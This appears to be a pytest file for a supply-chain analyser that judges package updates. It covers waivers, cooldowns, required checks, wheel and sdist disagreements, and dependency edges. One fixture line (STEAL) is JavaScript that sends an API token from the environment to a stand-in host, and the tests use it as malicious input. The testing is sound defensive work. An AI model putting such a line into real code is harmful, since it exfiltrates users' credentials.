"""From an analysis to words: what would change the verdict, what artifacts disagree about, how long it holds."""

from datetime import timedelta

import pytest
from msgspec.structs import replace

from lazaretto.app.analyse import Analyser, Analysis
from lazaretto.app.artifacts import disagreements
from lazaretto.app.opened import Source
from lazaretto.app.ports import ArchiveError, NotFound
from lazaretto.app.records import MAX_PROBLEMS, incomplete
from lazaretto.app.report import UpdateReport
from lazaretto.app.reporting import report_update
from lazaretto.core.finding import Example
from lazaretto.core.model import Artifact, ArtifactKind
from lazaretto.core.names import Purl
from lazaretto.core.policy import Outage, Outcome, Policy, Waiver
from lazaretto.core.update import Pair
from tests.detectors.updates import view
from tests.examples import NAME, NOW, World, analyse, build_world, rules, tree_of

PLAIN = {"index.js": "module.exports = 1;\n"}
STEAL = "require('https').get('https://drop.invalid/?t=' + process.env.API_TOKEN);\n"
VERSIONS = {"rules": "r", "policy": "p"}
DAY = timedelta(days=1)


def reported(after: dict[str, str], policy: Policy | None = None) -> tuple[Analysis, UpdateReport]:
    """Return the analysis of an update of one file, and its report."""
    world, name, version, now = build_world(Example(title="", before=PLAIN, after=after))
    analysis = analyse(world, name, version, policy, now)
    return analysis, report_update(analysis, rules(policy), VERSIONS, now)


def test_a_waiver_is_named_and_ends() -> None:
    """The report of a waived release says who accepted what, until when, and instead of which verdict."""
    purl = Purl(f"pkg:npm/{NAME}@1.0.1")
    waiver = Waiver(reason="known", by="Ada", until=NOW + 9 * DAY, purl=purl)
    _, report = reported({"index.js": STEAL}, Policy(waivers=(waiver,), block_at=20.0))

    assert report.verdict == "allow"
    assert report.waiver is not None
    assert (report.waiver.by, report.waiver.instead_of) == ("Ada", "block")
    assert report.expires == waiver.until
    assert report.would_change == ()
    assert not report.for_cause


def test_a_cooldown_says_when_it_ends() -> None:
    """A release that is too young says so among what would change the verdict, and expires with its cooldown."""
    policy = Policy(cooldown=2 * DAY, early_release=False)
    analysis, report = reported({"index.js": "module.exports = 2;\n"}, policy)

    assert analysis.outcome is Outcome.HOLD
    assert report.for_cause
    assert "the end of the cooldown of 2 d" in report.would_change
    assert analysis.verdict.subject.published is not None
    assert report.expires == analysis.verdict.subject.published + 2 * DAY


def test_fewer_required_checks_have_less_say() -> None:
    """A policy may name detectors to require; the basic checks stay required whatever it names."""
    everything, _ = reported({"index.js": STEAL})
    few, report = reported({"index.js": STEAL}, Policy(required=frozenset({"binary-added"})))
    unread, _ = reported({"index.js": "const = = ;;; ) (\n"}, Policy(required=frozenset({"binary-added"})))

    assert everything.outcome is not Outcome.ALLOW
    assert few.outcome is Outcome.ALLOW
    assert report.charge == 0
    assert unread.outcome is Outcome.HOLD


def test_artifacts_that_disagree() -> None:
    """Code that only the wheel has, or that differs from the source distribution, is told; documents are not."""

    def side(filename: str, kind: ArtifactKind, files: dict[str, str]) -> Pair:
        return Pair(None, replace(view({}), artifact=Artifact(filename, kind, ""), tree=tree_of(files)))

    pairs = (
        side("a.whl", ArtifactKind.WHEEL, {"pad/a.py": "1", "pad/b.py": "1", "pad/c.py": "1", "pad/n.txt": "1"}),
        side("b.whl", ArtifactKind.WHEEL, {"pad/a.py": "1", "pad/b.py": "1", "pad/c.py": "1"}),
        side("a.tar.gz", ArtifactKind.SDIST, {"src/pad/a.py": "1", "pad/b.py": "2"}),
    )
    assert disagreements(pairs) == (
        "pad/b.py: a.whl and a.tar.gz differ",
        "pad/b.py: b.whl and a.tar.gz differ",
        "pad/c.py: in a.whl, not in a.tar.gz",
        "pad/c.py: in b.whl, not in a.tar.gz",
    )


def test_an_update_without_an_instant_is_none() -> None:
    """Words about a cooldown need the instant of the question."""
    analysis, _ = reported({"index.js": STEAL})
    timeless = replace(analysis, update=replace(analysis.update, now=None))

    with pytest.raises(ValueError, match="instant"):
        report_update(timeless, rules(Policy(cooldown=DAY)), VERSIONS, NOW)


def test_long_lists_of_problems_are_counted() -> None:
    """A record spells out some problems and counts the rest."""
    record = incomplete("files", Outage.NOT_UNDERSTOOD, [str(number) for number in range(MAX_PROBLEMS + 5)])

    assert len(record.problems) == MAX_PROBLEMS + 1
    assert record.problems[-1] == "and 5 more"


def local(world: World, *files: dict[str, str]) -> Analysis:
    """Analyse local archives: the one in question, and an earlier one if there is one."""
    sources = []
    for number, tree in enumerate(files):
        artifact = Artifact(f"{number}.tgz", ArtifactKind.TARBALL, "")
        world.trees[artifact.filename] = tree_of(tree)
        sources.append(Source(artifact, str(number).encode()))
    after, *before = sources
    return Analyser(world.ecosystem, world, world, rules(), NOW).archives(next(iter(before), None), after)


def test_local_archives_name_themselves() -> None:
    """Name and version come from the manifest; an archive that names no release, or holds nothing, is refused."""
    manifest = {"package.json": '{"name": "pad", "version": "1.0.0"}'}
    analysis = local(World(), manifest, {"package.json": '{"name": "pad", "version": "0.9.0"}'})

    assert analysis.verdict.subject.purl == "pkg:npm/pad@1.0.0"
    assert analysis.update.before is not None
    with pytest.raises(ArchiveError, match="does not name a release"):
        local(World(), {"package.json": '{"name": "pad"}'})
    with pytest.raises(ArchiveError, match="no file"):
        local(World(), {})
    assert local(World(), manifest, {}).outcome is Outcome.HOLD


def test_a_dependency_that_does_not_exist() -> None:
    """Its name is free for anybody to take: an edge that leads nowhere, and no failure of the registry."""
    needs = '{"name": "example-package", "version": "1.0.1", "dependencies": {"nobody": "^1.0.0"}}'
    world, name, version, now = build_world(Example(title="", before=PLAIN, after={**PLAIN, "package.json": needs}))
    world.broken["nobody"] = NotFound("no project nobody")
    analysis = analyse(world, name, version, now=now)
    (followed,) = analysis.edges

    assert followed.edge.resolved is None
    assert followed.edge.why == "the registry has no such project"
    assert analysis.records["edges"].outage is None


def test_dependencies_that_only_the_index_tells() -> None:
    """Clients differ in whom they believe: what the index declares and the manifest hides is followed too."""
    world, name, version, now = build_world(Example(title="", before=PLAIN, after=PLAIN))
    artifact = Artifact("x", ArtifactKind.TARBALL, "")
    hidden = world.ecosystem.manifest(artifact, tree_of({"package.json": '{"dependencies": {"hidden": "1"}}'}))
    *older, newest = world.projects[name].releases
    told = replace(newest, dependencies=hidden.dependencies)
    world.projects[name] = replace(world.projects[name], releases=(*older, told))
    analysis = analyse(world, name, version, now=now)

    assert [followed.edge.dependency.name for followed in analysis.edges] == ["hidden"]
